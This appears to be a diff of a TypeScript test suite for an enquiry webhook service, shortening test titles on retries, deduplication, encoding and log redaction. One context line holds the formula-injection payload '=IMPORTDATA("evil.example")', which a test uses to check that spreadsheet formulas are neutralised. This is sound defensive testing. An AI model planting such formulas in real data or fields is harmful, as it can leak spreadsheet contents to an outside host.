@@ -31,7 +31,7 @@ const delivered = (api: TestApi, reference: string) => async () =>
 const tried = (api: TestApi, reference: string) => async () =>
   (await deliveries(api, reference))[0].attemptCount === 1;
 
-it('posts an enquiry to the endpoint as a form, with its reference, and nothing that a spreadsheet takes for a formula', async () => {
+it('posts an enquiry as a form, with its reference, and no spreadsheet formula', async () => {
   const endpoint = await webhook((response) => response.end('ok'));
   const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
   const formula = '=IMPORTDATA("evil.example")';
@@ -61,7 +61,7 @@ function breakOff(response: ServerResponse) {
   response.destroy();
 }
 
-it('tries again when the endpoint does not take an enquiry, whatever it does instead, and records why', async () => {
+it('retries when the endpoint refuses an enquiry in any way, and records why', async () => {
   const start = startWebhook((response, { fields, idempotencyKey }) => {
     const tries = endpoint.received.filter((one) => one.idempotencyKey === idempotencyKey).length;
     const [, fail] = FAILURES.find(([what]) => what === fields['Subject'])!;
@@ -272,7 +272,7 @@ it('hands a suspect on only after the admin says it is none', async () => {
   await until(() => endpoint.received.length === 2);
 });
 
-it('sends each of 60 once with three instances at work, and takes over from one that died', async () => {
+it('sends each of 60 once from three instances, and takes over from one that died', async () => {
   const endpoint = await webhook((response) => response.end('ok'));
   const environment = { ENQUIRY_WEBHOOK_URL: endpoint.url };
   const api = await apiWith({ ...environment, JOBS: 'false' });
@@ -295,7 +295,7 @@ it('sends each of 60 once with three instances at work, and takes over from one 
   expect(new Set(keys)).toEqual(new Set(references));
 });
 
-it('brings every character of names and messages through: database, endpoint, mail and CSV', async () => {
+it('keeps every character of names and messages in database, endpoint, mail and CSV', async () => {
   const server = await mailServer();
   const endpoint = await webhook((response) => response.end('ok'));
   const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, SMTP_URL: server.url, ...DESK });
@@ -334,7 +334,7 @@ it('brings every character of names and messages through: database, endpoint, ma
   );
 }, 60_000);
 
-it('writes a line about every request and every failed delivery, and nothing that people sent into any of them', async () => {
+it('logs every request and every failed delivery, without what people sent', async () => {
   const { spawnApi } = await import('../support/spawn-api.ts');
   const canary = 'canary7391';
   const nowhere = { ENQUIRY_WEBHOOK_URL: 'http://127.0.0.1:9/nobody' };
